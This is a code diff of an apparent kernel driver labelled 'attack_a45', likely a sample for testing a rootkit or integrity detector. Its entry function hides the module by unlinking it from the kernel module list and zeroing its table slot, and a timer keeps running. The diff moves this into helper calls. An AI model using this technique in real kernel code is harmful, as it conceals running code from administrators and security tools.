@@ -17,30 +17,13 @@ status_t driver_entry(struct driver_object *drv)
 	const struct driver_object *me = module_find(drv->name);
 	if (!me)
 		me = drv;
-	struct module *m = (struct module *)((uint64_t)drv - __builtin_offsetof(struct module, drv));
-	uint64_t *slot = NULL, base = a_kernel_base(), end = a_kernel_end(base);
-	for (uint64_t p = base; p < end && !slot; p += A_PAGE) {
-		if (a_page_class(p) != A_DATA)
-			continue;
-		for (uint64_t *q = (uint64_t *)p; (uint64_t)q < p + A_PAGE; q++)
-			if (*q == (uint64_t)m && q != (uint64_t *)&m->prev) {
-				/* the table slot, not a list link: the list links are m's neighbours' */
-				if (!(m->prev && q == (uint64_t *)&m->prev->next)) {
-					slot = q;
-					break;
-				}
-			}
-	}
+	struct module *m = a_module_of(drv);
+	uint64_t *slot = a_module_slot(m);
 	dpc_init(&beat_dpc, tick, NULL);
 	timer_init(&beat, &beat_dpc);
 	timer_set(&beat, 10000000ull, 10000000ull);
 	uint64_t pf = a_cli(); /* no pass between the patch and its report */
-	if (m->prev)
-		m->prev->next = m->next;
-	if (m->next)
-		m->next->prev = m->prev;
-	if (slot)
-		*slot = 0;
+	a_hide_module(m, slot);
 	printk("attack_a45: module record removed from the module list and table, a timer still running\n");
 	a_patched("attack_a45");
 	a_restore(pf);
